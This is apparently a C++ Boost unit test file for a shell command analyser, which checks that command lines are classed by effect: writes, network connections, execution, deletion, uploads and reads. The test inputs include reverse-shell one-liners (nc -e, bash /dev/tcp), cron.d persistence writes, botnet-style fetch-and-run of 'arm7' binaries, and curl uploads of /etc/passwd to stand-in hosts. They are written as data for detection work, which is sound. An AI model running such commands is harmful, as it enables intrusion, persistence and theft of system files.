#include "unit/shell/read_line.hpp"

#include <boost/test/unit_test.hpp>

BOOST_AUTO_TEST_SUITE(shell_effects)

using namespace rulehost::shell;

namespace {

using paths = std::vector<std::string>;

void check(std::string_view text, std::string_view program, effect_kind kind, paths const& expected) {
    line_reading const line(text);
    BOOST_TEST_CONTEXT(text)
    BOOST_TEST(line.targets(program, kind) == expected, boost::test_tools::per_element());
}

} // namespace

BOOST_AUTO_TEST_CASE(every_way_of_writing_a_file_is_one_effect) {
    for (auto const& [text, program] : std::initializer_list<std::pair<std::string_view, std::string_view>>{
             {"echo x > /etc/cron.d/a", "echo"},
             {"echo x >> /etc/cron.d/a", "echo"},
             {"echo x | tee /etc/cron.d/a", "tee"},
             {"cp x /etc/cron.d/a", "cp"},
             {"cp a /etc/cron.d/", "cp"},
             {"cp -t /etc/cron.d a", "cp"},
             {"mv x /etc/cron.d/a", "mv"},
             {"install -m 755 x /etc/cron.d/a", "install"},
             {"dd if=x of=/etc/cron.d/a", "dd"},
             {"wget -O /etc/cron.d/a http://h/x", "wget"},
             {"wget -P /etc/cron.d http://h/a", "wget"},
             {"curl -o /etc/cron.d/a http://h/x", "curl"},
             {"sed -i s/a/b/ /etc/cron.d/a", "sed"},
             {"ln -s x /etc/cron.d/a", "ln"},
             {"cd /etc; cd cron.d; wget http://h/a", "wget"},
             {"sort x -o /etc/cron.d/a", "sort"},
             {"(cat x) > /etc//cron.d/./a", "cat"}})
        check(text, program, effect_kind::writes, {"/etc/cron.d/a"});
}

BOOST_AUTO_TEST_CASE(network_ends_have_host_port_and_path) {
    check("curl https://u:p@h.example/a?b", "curl", effect_kind::connects, {"h.example:443/a?b"});
    check("wget h/x", "wget", effect_kind::connects, {"h:80/x"});
    check("nc -e /bin/sh 10.0.0.1 4444", "nc", effect_kind::connects, {"10.0.0.1:4444"});
    check("ssh -p 2222 root@10.0.0.1 id", "ssh", effect_kind::connects, {"10.0.0.1:2222"});
    check("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash", effect_kind::connects, {"10.0.0.1:4444"});
}

BOOST_AUTO_TEST_CASE(fetched_file_is_written_under_its_name) {
    check("wget http://h/bins/arm7?x=1", "wget", effect_kind::writes, {"arm7"});
    check("curl -O http://h/arm7", "curl", effect_kind::writes, {"arm7"});
    check("curl http://h/arm7", "curl", effect_kind::writes, {});
    check("tftp -g -r arm7 10.0.0.1", "tftp", effect_kind::writes, {"arm7"});
}

BOOST_AUTO_TEST_CASE(chmod_makes_executable_only_where_it_gives_the_right) {
    check("chmod 777 a b", "chmod", effect_kind::makes_executable, {"a", "b"});
    check("chmod +x a", "chmod", effect_kind::makes_executable, {"a"});
    check("chmod u+rwx a", "chmod", effect_kind::makes_executable, {"a"});
    check("chmod 644 a", "chmod", effect_kind::makes_executable, {});
    check("chmod -x a", "chmod", effect_kind::makes_executable, {});
    check("install -m 755 a /tmp/b", "install", effect_kind::makes_executable, {"/tmp/b"});
}

BOOST_AUTO_TEST_CASE(path_or_script_is_run_a_name_is_not) {
    check("./x", "x", effect_kind::runs, {"x"});
    check("cd /tmp; ./x", "x", effect_kind::runs, {"/tmp/x"});
    check("cd /tmp || cd /var/run || cd /; ./x", "x", effect_kind::runs, {"/tmp/x"});
    check("cd /tmp && ls || cd /mnt; ./x", "x", effect_kind::runs, {"/tmp/x"});
    check("cd /tmp || (cd /mnt && ls)\n./x", "x", effect_kind::runs, {"/tmp/x"});
    check("test -d /a || cd /b; ./x", "x", effect_kind::runs, {"/b/x"});
    check("cd /a || exit; cd b; ./x", "x", effect_kind::runs, {"/a/b/x"});
    check("cd /a || cd /b && ./x", "x", effect_kind::runs, {"/a/x"});
    check("sh /tmp/x", "sh", effect_kind::runs, {"/tmp/x"});
    check("wget", "wget", effect_kind::runs, {});
    check("sh -c id", "sh", effect_kind::runs, {});
}

BOOST_AUTO_TEST_CASE(deletions_by_rm_and_find) {
    check("rm -rf a b", "rm", effect_kind::deletes, {"a", "b"});
    check("find /home -delete", "find", effect_kind::deletes, {"/home/*"});
    check("find /home -name '*.log' -exec rm {} \\;", "find", effect_kind::deletes, {"/home/*.log"});
    check("find /home -name x", "find", effect_kind::deletes, {});
}

BOOST_AUTO_TEST_CASE(uploads_are_sent) {
    check("curl -F f=@/etc/passwd http://h/", "curl", effect_kind::sends, {"http://h/"});
    check("curl -T x ftp://h/", "curl", effect_kind::sends, {"ftp://h/"});
    check("scp x u@h:/tmp/", "scp", effect_kind::sends, {"u@h:/tmp/"});
    check("scp u@h:/tmp/x .", "scp", effect_kind::fetches, {"u@h:/tmp/x"});
}

BOOST_AUTO_TEST_CASE(file_that_a_client_is_asked_to_send_is_read) {
    check("curl -F f=@/etc/passwd http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
    check("curl -F 'f=@/etc/passwd;type=text/plain' http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
    check("curl -F 'n=</etc/passwd' http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
    check("cd /etc; curl -d @passwd http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
    check("curl --data-binary @/etc/passwd http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
    check("curl --data-urlencode n@/etc/passwd http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
    check("curl --upload-file /etc/passwd http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
    check("http POST h.example n@/etc/passwd", "http", effect_kind::reads, {"/etc/passwd"});
    check("curl -d a=@b -d me@h.example -F 'n=a<b' http://h/", "curl", effect_kind::reads, {});
}

BOOST_AUTO_TEST_CASE(clients_of_any_kind_fetch_send_and_connect) {
    check("/tool fetch url=http://h.example/x dst-path=y", "tool", effect_kind::fetches, {"http://h.example/x"});
    check("/tool fetch url=http://h.example/x dst-path=y", "tool", effect_kind::writes, {"y"});
    check("lynx -dump http://h.example/x", "lynx", effect_kind::fetches, {"http://h.example/x"});
    check("git clone https://h.example/r", "git", effect_kind::fetches, {"https://h.example/r"});
    check("pip install http://h.example/x.tgz", "pip", effect_kind::fetches, {"http://h.example/x.tgz"});
    check("socat - TCP:h.example:80,fork", "socat", effect_kind::connects, {"h.example:80"});
    check("aws s3 cp /etc/passwd s3://b/x", "aws", effect_kind::sends, {"s3://b/x"});
    check("aws s3 cp s3://b/x .", "aws", effect_kind::fetches, {"s3://b/x"});
    check("rclone copy /etc remote:b/x", "rclone", effect_kind::sends, {"remote:b/x"});
    check("whois -h h.example -p 43 data", "whois", effect_kind::connects, {"h.example:43"});
}

BOOST_AUTO_TEST_CASE(text_of_a_scheduler_is_read) {
    line_reading const line("/system scheduler add name=x interval=1m on-event=\"/tool fetch url=http://h.example/x\"");
    BOOST_TEST(line.targets("tool", effect_kind::fetches) == (paths{"http://h.example/x"}),
               boost::test_tools::per_element());
}

BOOST_AUTO_TEST_CASE(unknown_program_has_no_effects_but_its_redirects) {
    check("frobnicate a b", "frobnicate", effect_kind::writes, {});
    check("frobnicate a > b", "frobnicate", effect_kind::writes, {"b"});
}

BOOST_AUTO_TEST_CASE(paths_of_any_program_are_named) {
    line_reading line("cd /etc; frobnicate --out=/x y if=/z > ../w -q");
    std::vector<std::string_view> named;
    line.read.add_named_paths(line.of("frobnicate"), named);
    BOOST_TEST(named == (std::vector<std::string_view>{"/x", "/etc/y", "/z", "/w"}), boost::test_tools::per_element());
}

BOOST_AUTO_TEST_SUITE_END()
